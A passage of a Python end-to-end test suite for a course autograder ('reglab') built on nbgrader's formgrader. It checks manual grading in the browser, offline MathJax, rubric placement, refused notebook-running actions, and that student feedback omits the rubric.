        request = call("PUT", aid, {"duedate_notimezone": "2026-10-01T00:00:00", "duedate_timezone": "+0000"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)
        body = json.loads(refused.value.read())
        assert refused.value.code == 403 and body["success"] is False, (aid, body)
        assert "dates file" in body["error"] and "reglab grade" in body["error"], body
    with Gradebook(db_url_for(out)) as gb:
        assert [(a.name, a.duedate) for a in gb.assignments] == before
    assert not list(out.rglob("99_phantom")), list(out.rglob("99_phantom"))


def test_formgrader_on_a_grading_output_then_feedback_shows_the_manual_score(browser, tmp_path):
    """`reglab grade` a small class, `reglab formgrader` on its output, a score and a comment typed into
    formgrader's page (in JupyterLab), then `reglab feedback` shows them in that student's feedback.

    The browser reaches nothing but the server: formgrader works offline (MathJax from the server, keyboard
    shortcuts). One Formgrader entry, no exchange warning, no buttons that run notebooks (and the server refuses
    those requests), the question's rubric beside the answer; the feedback shows no rubric."""
    from reglab_autograder.testing import classroom

    sid = "00_overfitting"
    classroom.honest_class(tmp_path / "class" / "submitted", assignments=(sid,))
    classroom.write(tmp_path / "class" / "submitted", "mallory", sid, _hostile_submission(sid))
    out = tmp_path / "out"
    env = dict(os.environ, PATH=f"{BIN}:{os.environ['PATH']}", JUPYTER_TOKEN=secrets.token_hex(16),
               JUPYTER_CONFIG_DIR=str(tmp_path / ".jupyter"), JUPYTER_RUNTIME_DIR=str(tmp_path / ".runtime"))
    r = subprocess.run([str(BIN / "reglab"), "grade", str(tmp_path / "class"), "--out", str(out), "--workers", "2",
                        "--quiet", "--course-dir", str(ROOT)], capture_output=True, text=True, env=env, timeout=600)
    assert r.returncode == 0, r.stdout + r.stderr
    port = free_port()
    log = open(tmp_path / "formgrader.log", "w")
    proc = subprocess.Popen([str(BIN / "reglab"), "formgrader", str(out), "--no-browser", "--ip", "127.0.0.1",
                             "--port", str(port)], env=env, stdout=log, stderr=subprocess.STDOUT)
    url, token = f"http://127.0.0.1:{port}", env["JUPYTER_TOKEN"]
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
    # the grading page's fetch of the grades held back 3 s in the browser, as on a busy machine: a score typed
    # before the page has bound its boxes is lost (this failed in CI before the test waited for formgrader's flags)
    ctx.add_init_script("""
        const open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
        XMLHttpRequest.prototype.open = function (method, url, ...rest) {
            this._reglabUrl = String(url);
            return open.call(this, method, url, ...rest);
        };
        XMLHttpRequest.prototype.send = function (...args) {
            if (this._reglabUrl.includes("/formgrader/api/grades?")) setTimeout(() => send.apply(this, args), 3000);
            else return send.apply(this, args);
        };""")
    blocked = []
    _local_only(ctx, blocked)
    page = ctx.new_page()
    mathjax = []
    page.on("response", lambda r: mathjax.append((r.url, r.status)) if "/jupyter_server_mathjax/" in r.url
            and not r.url.endswith(".otf") else None)  # (MathJax may ask for TeX .otf fonts; STIX-Web is shipped)
    try:
        _wait_for_server(url, token, proc, "reglab formgrader", tmp_path / "formgrader.log")
        page.goto(f"{url}/lab/workspaces/{secrets.token_hex(4)}?token={token}")
        expect(page.locator("#jp-main-dock-panel")).to_be_visible(timeout=60_000)
        page.get_by_role("menuitem", name="Nbgrader", exact=True).click()
        entries = page.locator("#jp-mainmenu-nbgrader").get_by_role("menuitem").all_inner_texts()
        assert [e.strip() for e in entries] == ["Formgrader"], entries  # nbgrader's student-side entries are off
        page.get_by_role("menuitem", name="Formgrader").click()
        frame = page.frame_locator("iframe").first
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        expect(frame.locator("td.name a").first).to_be_visible(timeout=60_000)
        page.screenshot(path=str(ARTIFACTS / "formgrader_manage_assignments.png"))
        _check_manage_pages(frame)
        page.screenshot(path=str(ARTIFACTS / "formgrader_manage_submissions.png"))
        frame.get_by_role("link", name="Manual Grading").click()
        frame.get_by_role("link", name=sid, exact=True).first.click()  # the assignment
        frame.get_by_role("link", name=sid, exact=True).first.click()  # its notebook
        # submissions are listed anonymously: grade the first, then ask the gradebook whose it was
        frame.get_by_role("link", name="Submission #1", exact=True).first.click()
        score = frame.locator("input.score#w1")
        expect(score).to_be_visible(timeout=60_000)
        grading = _wait_for_formgrade_ready(page, timeout=60)
        # MathJax from the server (the CDN is unreachable): defined, and the notebook's equations typeset
        assert grading.evaluate("typeof MathJax !== 'undefined' && MathJax.loaded === true"), blocked
        assert any("/MathJax.js" in u for u, _ in mathjax) and all(st < 400 for _, st in mathjax), mathjax
        assert not [u for u in blocked if "mathjax" in u.lower()], blocked
        equation = frame.locator(".MathJax, .MathJax_CHTML").first
        expect(equation).to_be_attached(timeout=30_000)
        equation.scroll_into_view_if_needed()
        page.screenshot(path=str(ARTIFACTS / "formgrader_math.png"))
        # the model answer and rubric of the instructor's notebook beside the written answer w1
        rubric = frame.locator(".reglab-rubric[data-grade-id='w1']")
        expect(rubric).to_contain_text("Rubric (not shown to the student)")
        expect(rubric).to_contain_text(_model_answer_start(sid, "w1"))
        answer = frame.locator(".reglab-beside", has=rubric).locator(".nbgrader_cell")
        a, r = answer.bounding_box(), rubric.bounding_box()
        assert r["x"] >= a["x"] + a["width"] and r["y"] < a["y"] + a["height"], (a, r)  # beside, not below
        rubric.scroll_into_view_if_needed()
        page.screenshot(path=str(ARTIFACTS / "formgrader_rubric.png"))
        # formgrader's keyboard shortcuts: Tab to the next box, Esc leaves the box (and saves), Enter goes back
        order = grading.evaluate("() => $('.tabbable').toArray().map(e => e.id)")
        score.focus()
        score.press("Tab")
        assert grading.evaluate("document.activeElement.id") == order[order.index("w1") + 1]
        score.focus()
        score.press("Escape")
        assert grading.evaluate("document.activeElement === document.body")
        grading.locator("body").press("Enter")
        assert grading.evaluate("document.activeElement.id") == "w1"
        score.fill("1.5")
        comment = frame.locator("textarea.comment").last  # the written answer w1 is the notebook's last graded cell
        comment.fill("Right idea; name the variance term.")
        comment.press("Tab")
        score.press("Tab")
        # saved when the gradebook has it (formgrader's tick shows for one second only: too brief to wait for)
        student = _wait_for_manual_grade(out, sid, 1.5, "Right idea; name the variance term.", timeout=30)
        page.screenshot(path=str(ARTIFACTS / "formgrader_manual_score.png"))
        first = grading.url
        score.focus()
        score.press("Escape")  # out of the box, then
        page.keyboard.press("Control+.")  # formgrader's shortcut to the next submission
        deadline = time.monotonic() + 30
        while grading.url == first:
            assert time.monotonic() < deadline, "Ctrl-. did not move to the next submission"
            page.wait_for_timeout(200)  # (Playwright updates the frame's URL while it is called, not during a sleep)
        _check_grading_page_runs_no_payload(page, grading, url, out, sid, blocked)
        # the server refuses nbgrader's actions that would run notebooks, saying what to run instead
        autograded = sorted((p, p.stat().st_mtime_ns) for p in (out / "autograded").rglob("*"))
        for action in NBGRADER_ACTIONS:
            request = urllib.request.Request(f"{url}/formgrader/api/{action.format(a=sid, s=student)}", data=b"",
                                             method="POST", headers={"Authorization": f"token {token}"})
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(request, timeout=30)
            body = json.loads(refused.value.read())
            assert refused.value.code == 403 and body["success"] is False, (action, body)
            assert "reglab grade" in body["error"] or "reglab feedback" in body["error"] or \
                "reglab handback" in body["error"], (action, body)
        assert sorted((p, p.stat().st_mtime_ns) for p in (out / "autograded").rglob("*")) == autograded
        _check_assignments_read_only(url, token, out, sid)
    finally:
        ctx.close()
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.close()
    r = subprocess.run([str(BIN / "reglab"), "feedback", str(out)], capture_output=True, text=True, env=env,
                       timeout=300)
    assert r.returncode == 0, r.stdout + r.stderr
    feedback = (out / "feedback" / student / sid / f"{sid}.html").read_text()
    assert "Score: 1.5 / 2.0" in feedback and "Right idea; name the variance term." in feedback
    for page_ in (out / "feedback").rglob("*.html"):  # no student sees the rubric or the model answer
        text = page_.read_text()
        assert "not shown to the student" not in text and _model_answer_start(sid, "w1") not in text, page_
